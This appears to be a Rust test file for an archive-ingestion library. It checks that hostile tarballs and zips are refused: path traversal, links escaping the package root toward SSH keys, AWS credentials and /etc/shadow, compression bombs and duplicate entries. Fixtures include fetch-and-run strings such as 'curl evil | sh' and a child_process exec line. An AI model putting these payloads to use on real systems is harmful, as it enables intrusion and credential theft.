//! Hostile archives: each must be refused with an error that names the entry and the reason.

mod common;
use common::*;
use portcullis_core::{BinaryKind, FileKind};
use portcullis_ingest::{IngestError, Limit, Limits, load_archive_bytes};
use tar::EntryType;

fn load(bytes: &[u8]) -> Result<portcullis_core::Package, IngestError> {
    load_archive_bytes("evil-1.0.0.tgz", bytes, &Limits::default()).map(|(p, _)| p)
}

fn base() -> Tar {
    Tar::new().file("package/package.json", N8N_PACKAGE_JSON.as_bytes())
}

#[track_caller]
fn assert_msg(err: &IngestError, needles: &[&str]) {
    let msg = err.to_string();
    assert!(msg.starts_with("evil-1.0.0.tgz: "), "{msg}");
    for n in needles {
        assert!(msg.contains(n), "`{n}` missing from: {msg}");
    }
}

#[test]
fn dot_dot_escape_is_refused() {
    let err = load(
        &base()
            .file("package/../../.bashrc", b"curl evil | sh")
            .tgz(),
    )
    .unwrap_err();
    assert!(matches!(err, IngestError::UnsafePath { .. }), "{err:?}");
    assert_msg(&err, &["package/../../.bashrc", "`..`"]);
}

#[test]
fn absolute_path_is_refused() {
    let err = load(&base().file("/etc/cron.d/evil", b"* * * * * root sh").tgz()).unwrap_err();
    assert!(
        matches!(
            err,
            IngestError::UnsafePath {
                reason: "absolute path",
                ..
            }
        ),
        "{err:?}"
    );
    assert_msg(&err, &["/etc/cron.d/evil"]);
}

#[test]
fn windows_tricks_are_refused() {
    for name in [
        "package\\..\\..\\evil.js",
        "C:/Windows/System32/evil.dll",
        "package/C:evil",
    ] {
        let err = load(&base().file(name, b"x").tgz()).unwrap_err();
        assert!(
            matches!(err, IngestError::UnsafePath { .. }),
            "{name}: {err:?}"
        );
    }
}

#[test]
fn symlink_out_of_root_is_refused() {
    let err = load(
        &base()
            .symlink("package/lib/creds", "../../../home/user/.ssh/id_rsa")
            .tgz(),
    )
    .unwrap_err();
    assert!(
        matches!(
            err,
            IngestError::LinkEscape {
                kind: "symbolic link",
                ..
            }
        ),
        "{err:?}"
    );
    assert_msg(
        &err,
        &["package/lib/creds", "outside the package root", "id_rsa"],
    );
    // Absolute targets escape too.
    let err = load(&base().symlink("package/passwd", "/etc/passwd").tgz()).unwrap_err();
    assert!(matches!(err, IngestError::LinkEscape { .. }));
    // A link to the archive root above `package/` leaves the package once it is stripped.
    let err = load(
        &base()
            .file("package/a.js", b"1")
            .symlink("package/up", "..")
            .tgz(),
    )
    .unwrap_err();
    assert!(matches!(err, IngestError::LinkEscape { .. }));
}

#[test]
fn zip_symlink_out_of_root_is_refused() {
    let bytes = Zip::new()
        .file("p/a.js", b"1")
        .symlink("p/key", "../../.aws/credentials")
        .bytes();
    let err = load(&bytes).unwrap_err();
    assert!(matches!(err, IngestError::LinkEscape { .. }), "{err:?}");
}

#[test]
fn hardlink_out_of_root_is_refused() {
    let err = load(&base().hardlink("package/shadow", "/etc/shadow").tgz()).unwrap_err();
    assert!(
        matches!(
            err,
            IngestError::LinkEscape {
                kind: "hard link",
                ..
            }
        ),
        "{err:?}"
    );
    let err = load(&base().hardlink("package/x", "../outside").tgz()).unwrap_err();
    assert!(matches!(err, IngestError::LinkEscape { .. }), "{err:?}");
}

#[test]
fn device_files_and_fifos_are_refused() {
    for (kind, label) in [
        (EntryType::Char, "character device"),
        (EntryType::Block, "block device"),
        (EntryType::Fifo, "FIFO"),
    ] {
        let err = load(&base().raw(b"package/dev", kind, b"", None, 0o644).tgz()).unwrap_err();
        assert!(matches!(err, IngestError::SpecialFile { .. }), "{err:?}");
        assert_msg(&err, &["package/dev", label]);
    }
}

#[test]
fn too_many_entries_is_refused() {
    let mut t = base();
    for i in 0..20 {
        t = t.file(&format!("package/lib/{i}.js"), b"1");
    }
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let err = load_archive_bytes("evil-1.0.0.tgz", &t.tgz(), &limits).unwrap_err();
    assert_eq!(err.limit(), Some(Limit::Entries));
    assert_msg(&err, &["max-entries", "11", "10"]);
    // The same limit holds for zips, checked from the central directory before reading.
    let mut z = Zip::new();
    for i in 0..20 {
        z = z.file(&format!("p/{i}.js"), b"1");
    }
    let err = load_archive_bytes("evil.zip", &z.bytes(), &limits).unwrap_err();
    assert_eq!(err.limit(), Some(Limit::Entries));
}

#[test]
fn oversized_file_is_refused() {
    let limits = Limits {
        max_file_size: 1000,
        ..Limits::default()
    };
    let big = vec![b'a'; 1001];
    let err = load_archive_bytes(
        "evil-1.0.0.tgz",
        &base().file("package/dist/big.js", &big).tgz(),
        &limits,
    )
    .unwrap_err();
    assert_eq!(err.limit(), Some(Limit::FileSize));
    assert_msg(
        &err,
        &["package/dist/big.js", "max-file-size", "1001", "1000"],
    );
    let err = load_archive_bytes(
        "evil.zip",
        &Zip::new().file("p/big.js", &big).bytes(),
        &limits,
    )
    .unwrap_err();
    assert_eq!(err.limit(), Some(Limit::FileSize));
    // At the limit is fine.
    assert!(
        load_archive_bytes(
            "ok.tgz",
            &base().file("package/ok.js", &big[..1000]).tgz(),
            &limits
        )
        .is_ok()
    );
}

#[test]
fn total_size_is_limited() {
    let limits = Limits {
        max_total_size: 5000,
        ..Limits::default()
    };
    let mut t = base();
    for i in 0..10 {
        t = t.file(&format!("package/lib/{i}.js"), &[b'x'; 900]);
    }
    let err = load_archive_bytes("evil-1.0.0.tgz", &t.tgz(), &limits).unwrap_err();
    assert_eq!(err.limit(), Some(Limit::TotalSize), "{err}");
}

#[test]
fn gzip_bomb_is_refused_without_unpacking_it() {
    // 40 MB of zeros compress to ~40 KB: ratio ~1000:1.
    let bomb = base()
        .file("package/dist/index.js", &vec![0u8; 40 * 1024 * 1024])
        .tgz();
    assert!(bomb.len() < 100_000);
    let err = load(&bomb).unwrap_err();
    assert!(matches!(err, IngestError::Bomb { .. }), "{err:?}");
    assert_msg(
        &err,
        &["compression bomb", "max-compression-ratio", "100:1"],
    );
}

#[test]
fn zip_bomb_entry_is_refused() {
    let bytes = Zip::new()
        .file("p/index.js", b"1")
        .file("p/data.bin", &vec![0u8; 20 * 1024 * 1024])
        .bytes();
    let err = load(&bytes).unwrap_err();
    match &err {
        IngestError::Bomb { entry, .. } => assert_eq!(entry.as_deref(), Some("p/data.bin")),
        other => panic!("{other:?}"),
    }
}

#[test]
fn small_repetitive_files_are_not_bombs() {
    // 200 KB of zeros is ~200 bytes compressed (1000:1), but under the 1 MiB grace.
    let bytes = base()
        .file("package/zeros.bin", &vec![0u8; 200 * 1024])
        .tgz();
    let pkg = load(&bytes).unwrap();
    assert_eq!(pkg.file("zeros.bin").unwrap().len(), 200 * 1024);
}

#[test]
fn duplicate_entries_are_refused() {
    let bytes = base()
        .file("package/dist/index.js", b"module.exports = {};")
        .file(
            "package/dist/index.js",
            b"require('child_process').exec('curl evil|sh')",
        )
        .tgz();
    let err = load(&bytes).unwrap_err();
    assert!(matches!(err, IngestError::Duplicate { .. }), "{err:?}");
    assert_msg(&err, &["dist/index.js", "more than once"]);
    // Normalization makes `./package/a.js` and `package//a.js` the same entry.
    let bytes = base()
        .file("package/a.js", b"1")
        .file("./package//a.js", b"2")
        .tgz();
    assert!(matches!(
        load(&bytes).unwrap_err(),
        IngestError::Duplicate { .. }
    ));
    // A file and a directory of the same name are ambiguous too.
    let bytes = base()
        .file("package/lib", b"1")
        .file("package/lib/a.js", b"2")
        .tgz();
    assert!(matches!(
        load(&bytes).unwrap_err(),
        IngestError::Duplicate { .. }
    ));
}

#[test]
fn absurd_paths_are_refused() {
    let deep = format!("package/{}x.js", "d/".repeat(40));
    let err = load(&base().file(&deep, b"1").tgz()).unwrap_err();
    assert_eq!(err.limit(), Some(Limit::PathDepth), "{err}");
    let limits = Limits {
        max_path_len: 60,
        ..Limits::default()
    };
    let long = format!("package/{}.js", "a".repeat(80));
    let err =
        load_archive_bytes("evil-1.0.0.tgz", &base().file(&long, b"1").tgz(), &limits).unwrap_err();
    assert_eq!(err.limit(), Some(Limit::PathLen), "{err}");
}

#[test]
fn non_utf8_names_and_control_characters_are_refused() {
    let err = load(
        &base()
            .raw(
                b"package/\xff\xfe.js",
                EntryType::Regular,
                b"1",
                None,
                0o644,
            )
            .tgz(),
    )
    .unwrap_err();
    assert!(
        matches!(
            err,
            IngestError::UnsafePath {
                reason: "name is not valid UTF-8",
                ..
            }
        ),
        "{err:?}"
    );
    let err = load(&base().file("package/a\u{1b}[2J.js", b"1").tgz()).unwrap_err();
    assert!(matches!(err, IngestError::UnsafePath { .. }), "{err:?}");
}

#[test]
fn invalid_utf8_and_nul_content_is_binary_not_text() {
    let pkg = load(
        &base()
            .file("package/dist/latin1.js", b"var s = 'caf\xe9';\n")
            .file("package/dist/nul.js", b"var a = 1;\0\0")
            .tgz(),
    )
    .unwrap();
    for p in ["dist/latin1.js", "dist/nul.js"] {
        let f = pkg.file(p).unwrap();
        assert_eq!(f.kind, FileKind::Binary(BinaryKind::Other), "{p}");
        assert!(f.text().is_none());
    }
}

#[test]
fn binary_payloads_are_classified_by_magic() {
    let mut pe = b"MZ".to_vec();
    pe.resize(0x100, 0);
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let inner_zip = Zip::new().file("x/y.js", b"1").bytes();
    let pkg = load(
        &base()
            .file("package/lib/helper.js", &elf())
            .file("package/vendor/update.exe", &pe)
            .file("package/vendor/payload.dat", &inner_zip)
            .file("package/vendor/lib.wasm", b"\0asm\x01\0\0\0")
            .tgz(),
    )
    .unwrap();
    assert_eq!(
        pkg.file("lib/helper.js").unwrap().kind,
        FileKind::Binary(BinaryKind::Elf)
    );
    assert_eq!(
        pkg.file("vendor/update.exe").unwrap().kind,
        FileKind::Binary(BinaryKind::Pe)
    );
    assert_eq!(
        pkg.file("vendor/payload.dat").unwrap().kind,
        FileKind::Binary(BinaryKind::Archive)
    );
    assert_eq!(
        pkg.file("vendor/lib.wasm").unwrap().kind,
        FileKind::Binary(BinaryKind::Wasm)
    );
}

#[test]
fn garbage_and_truncated_input_gets_a_clear_error() {
    let err = load(b"just some text, not an archive").unwrap_err();
    assert!(matches!(err, IngestError::Unsupported { .. }), "{err:?}");
    assert!(matches!(
        load(b"").unwrap_err(),
        IngestError::Unsupported { .. }
    ));
    let tgz = base().file("package/index.js", &[b'x'; 5000]).tgz();
    let err = load(&tgz[..tgz.len() / 2]).unwrap_err();
    assert!(matches!(err, IngestError::Malformed { .. }), "{err:?}");
    assert_msg(&err, &["malformed"]);
}

#[test]
fn zip_path_escapes_are_refused() {
    for name in [
        "../evil.js",
        "/etc/cron.d/evil",
        "p/..\\..\\evil.js",
        "C:/evil.dll",
    ] {
        let bytes = Zip::new().file("p/index.js", b"1").file(name, b"x").bytes();
        let err = load(&bytes).unwrap_err();
        assert!(
            matches!(err, IngestError::UnsafePath { .. }),
            "{name}: {err:?}"
        );
    }
}
